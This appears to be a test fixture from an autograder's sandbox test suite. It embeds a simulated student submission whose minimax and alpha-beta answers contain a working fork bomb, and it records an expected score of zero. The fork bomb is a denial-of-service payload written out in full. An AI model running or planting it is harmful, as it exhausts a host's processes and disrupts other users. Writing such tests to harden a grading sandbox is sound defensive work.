"""Attack: a fork bomb (bounded: 5,000 forks or 5 s a cell; every child forks again and spins)
at the top of the minimax cell and inside the alpha-beta search. The defence: the sandbox's
process limit (pids cgroup, RLIMIT_NPROC of its own uid) and its end killing them all; the
host and the other students unharmed. Deserves 0."""

BOMB = '''import os, time
def _bomb():
    end = time.monotonic() + 5
    made = 0
    while time.monotonic() < end and made < 5000:
        try:
            if os.fork() == 0:
                stop = time.monotonic() + 30
                while time.monotonic() < stop:
                    try:
                        os.fork()
                    except OSError:
                        pass
                os._exit(0)
            made += 1
        except OSError:
            time.sleep(0.01)
    print("forked", made)
'''

STUDENT = "Trịnh Văn Phúc"
ANSWERS = {
    "my_minimax": "def my_minimax(game, state, depth, evaluate):\n    return 0\n" + BOMB + "_bomb()\n",
    "my_alphabeta": "def my_alphabeta(game, state, depth, evaluate, alpha, beta):\n"
                    "    _bomb()\n    return 0\n" + BOMB,
}
DESERVED = {"1_minimax": 0, "2_alphabeta": 0, "3_evaluation": 0, "4_predictions": 0}
